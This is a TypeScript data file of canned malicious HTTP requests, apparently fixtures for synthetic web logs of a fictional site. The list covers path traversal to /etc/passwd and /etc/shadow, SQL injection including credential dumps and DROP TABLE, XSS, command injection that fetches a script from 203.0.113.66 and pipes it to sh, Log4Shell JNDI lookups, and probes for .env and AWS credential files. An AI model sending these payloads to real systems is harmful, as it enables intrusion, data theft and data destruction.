/**
 * Attacks the made-up site sees: requests in the plain spellings that scanners send, written for these logs.
 * They are data; none is meant to work against anything.
 */

export interface AttackRequest {
  readonly class: AttackClass;
  readonly method: string;
  /** Request target as it came over the wire: printable ASCII without quotes and backslashes. */
  readonly target: string;
  /** The scanner that announces itself; null: a browser's agent. */
  readonly agent: string | null;
}

export type AttackClass = 'traversal' | 'sqli' | 'xss' | 'command' | 'log4shell' | 'probe' | 'scanner';

const sqlmap = 'sqlmap/1.8.4#stable (https://sqlmap.org)';
const nikto = 'Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000042)';
const nuclei = 'Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))';

const get = (attackClass: AttackClass, target: string, agent: string | null = null): AttackRequest => ({
  class: attackClass,
  method: 'GET',
  target,
  agent,
});

export const attackRequests: readonly AttackRequest[] = [
  get('traversal', '/../../../../etc/passwd'),
  get('traversal', '/download?file=../../../../../etc/passwd'),
  get('traversal', '/media/..%2f..%2f..%2f..%2fetc%2fpasswd'),
  get('traversal', '/static/%2e%2e/%2e%2e/%2e%2e/etc/shadow'),
  get('traversal', '/index.php?page=....//....//....//etc/passwd'),
  get('traversal', '/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh'),
  get('sqli', "/shop/lamps/?id=1'+OR+'1'='1"),
  get('sqli', '/search?q=1%27%20UNION%20SELECT%20username,password%20FROM%20users--%20-', sqlmap),
  get('sqli', '/api/v1/products/1001?fields=1%20AND%20SLEEP(5)', sqlmap),
  get('sqli', '/product.php?id=-1+union+all+select+1,2,concat(user(),0x3a,database()),4--+', sqlmap),
  get('sqli', "/search?q=';DROP+TABLE+orders;--"),
  get('sqli', '/shop/?sort=price%29%3BWAITFOR%20DELAY%20%270%3A0%3A5%27--'),
  get('xss', '/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E'),
  get('xss', '/search?q=<img+src=x+onerror=alert(1)>'),
  get('xss', '/contact?name=%22%3E%3Csvg%20onload%3Dalert(1)%3E'),
  get('xss', '/blog/?ref=javascript:alert(String.fromCharCode(88,83,83))'),
  get('command', '/scripts/..%255c..%255cwinnt/system32/cmd.exe?/c+dir+c:'),
  get('command', '/cgi-bin/status?host=127.0.0.1;cat%20/etc/passwd'),
  get('command', '/ping?ip=8.8.8.8%7Cwget%20http://203.0.113.66/x.sh%20-O-%7Csh'),
  get('command', '/index.php?s=/index/think/app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id'),
  get('log4shell', '/?x=${jndi:ldap://203.0.113.66:1389/a}'),
  get('log4shell', '/search?q=$%7Bjndi:$%7Blower:l%7Ddap://203.0.113.66/b%7D'),
  get('probe', '/.env'),
  get('probe', '/.git/config'),
  get('probe', '/.git/HEAD'),
  get('probe', '/wp-login.php'),
  get('probe', '/wp-admin/setup-config.php'),
  get('probe', '/xmlrpc.php'),
  get('probe', '/phpmyadmin/index.php'),
  get('probe', '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php'),
  get('probe', '/backup.sql'),
  get('probe', '/.aws/credentials'),
  get('probe', '/server-status'),
  get('probe', '/actuator/env'),
  get('scanner', '/cgi-bin/test-cgi', nikto),
  get('scanner', '/admin/config.php', nikto),
  get('scanner', '/login.action', nuclei),
  get('scanner', '/', 'Mozilla/5.0 zgrab/0.x'),
  get('scanner', '/', 'masscan/1.3 (https://github.com/robertdavidgraham/masscan)'),
];
